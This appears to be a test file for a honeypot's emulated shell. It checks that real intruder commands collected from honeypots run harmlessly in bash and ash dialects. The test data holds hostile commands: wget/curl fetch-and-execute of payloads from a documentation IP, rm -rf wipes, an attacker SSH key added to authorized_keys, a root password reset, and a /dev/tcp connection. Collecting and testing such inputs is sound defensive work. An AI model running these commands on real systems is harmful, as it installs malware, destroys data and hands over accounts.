import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { runScript } from './run.ts'

/** What was seen on honeypots, as it came (addresses replaced by those that belong to documentation). */
const seen: readonly string[] = [
  '#!/bin/sh; PATH=$PATH:/usr/local/sbin:/usr/local/bin; wget http://192.0.2.1/112; curl -O http://192.0.2.1/112; chmod +x 112; ./112; history -c',
  'cd /tmp;rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root;rm -rf /root/* || cd /; wget http://192.0.2.1/bins.sh; /bin/busybox wget http://192.0.2.1/bins.sh; chmod 777 bins.sh;./bins.sh;sh bins.sh; rm bins.sh',
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
  'echo "root:gkgV6sWvx4c2"|chpasswd|bash',
  "cd /tmp || cd /var/ || cd /; rm -rf i; chmod 777 i || (cp /bin/ls ii;cat i>ii;rm i;cp ii i;rm ii); ./i; echo -e '\\x63\\x6F\\x6E\\x6E\\x65\\x63\\x74\\x65\\x64'",
  'if [ $(uname -m) == "x86_64" ]; then if [ $(ls /home/) == "richard" ]; then echo "" >/dev/null; else echo "GOTCHA"; fi; fi',
  'enable\nlinuxshell\nsystem\nbash\nls /home\nps aux\n/bin/busybox ZONESEC',
  'while read i; do echo "$i"; done < /proc/self/exe; /bin/busybox cat /proc/self/exe || cat /proc/self/exe',
  'cat /proc/mounts; (while read a b c; do echo $b; done) </proc/mounts; >/var/run/.x && cd /var/run; >/tmp/.x && cd /tmp',
]

describe('what intruders typed', () => {
  for (const script of seen) {
    it(script.slice(0, 60), async () => {
      for (const dialect of ['bash', 'ash'] as const) {
        const { output, status } = await runScript(script, { dialect })
        assert.ok(status < 256)
        assert.doesNotMatch(output, /TypeError|undefined|\[object|syntax error/)
      }
    })
  }

  it('says what the escapes say', async () => {
    const { output } = await runScript(seen[4]!)
    assert.match(output, /connected\n$/)
  })

  it('/dev/tcp is told of, refused, and never connected', async () => {
    const { output, happenings } = await runScript('exec 3<>/dev/tcp/127.0.0.1/4444; echo $?')
    assert.equal(
      output,
      'bash: connect: Connection refused\nbash: line 1: /dev/tcp/127.0.0.1/4444: Connection refused\n1\n',
    )
    assert.deepEqual(
      happenings.map((one) => (one.type === 'connect' ? [one.host, one.port] : one.type)),
      [['127.0.0.1', 4444]],
    )
  })

  it('a command given to a shell is told of, with whether it was found', async () => {
    const { happenings } = await runScript("bash -c 'nosuch a'; echo 'echo b' | sh; sh -c 'echo c'")
    assert.deepEqual(
      happenings.map((one) => (one.type === 'command' ? [one.command, one.found] : one.type)),
      [
        ['nosuch a', false],
        ['echo b', true],
        ['echo c', true],
      ],
    )
  })

  it('a file that they brought seems to run, or is of another machine', async () => {
    const elf = (machine: number) => ({
      content: `\x7fELF\x02\x01\x01${'\0'.repeat(11)}${String.fromCharCode(machine)}\0`,
      mode: 0o755,
    })
    const files = {
      '/w/mine': elf(62),
      '/w/arm': elf(183),
      '/w/s': { content: '#!/bin/bash\necho in script $1\n', mode: 0o755 },
      '/w/t': { content: 'echo plain\n', mode: 0o755 },
      '/w/b': { content: '#!/nosuch\n', mode: 0o755 },
    }
    const { output } = await runScript('./mine; echo $?; ./arm; echo $?; ./s x; ./t; ./b; echo $?', { files })
    assert.equal(
      output,
      '0\nbash: line 1: ./arm: cannot execute binary file: Exec format error\n126\nin script x\nplain\nbash: line 1: ./b: cannot execute: required file not found\n127\n',
    )
  })
})
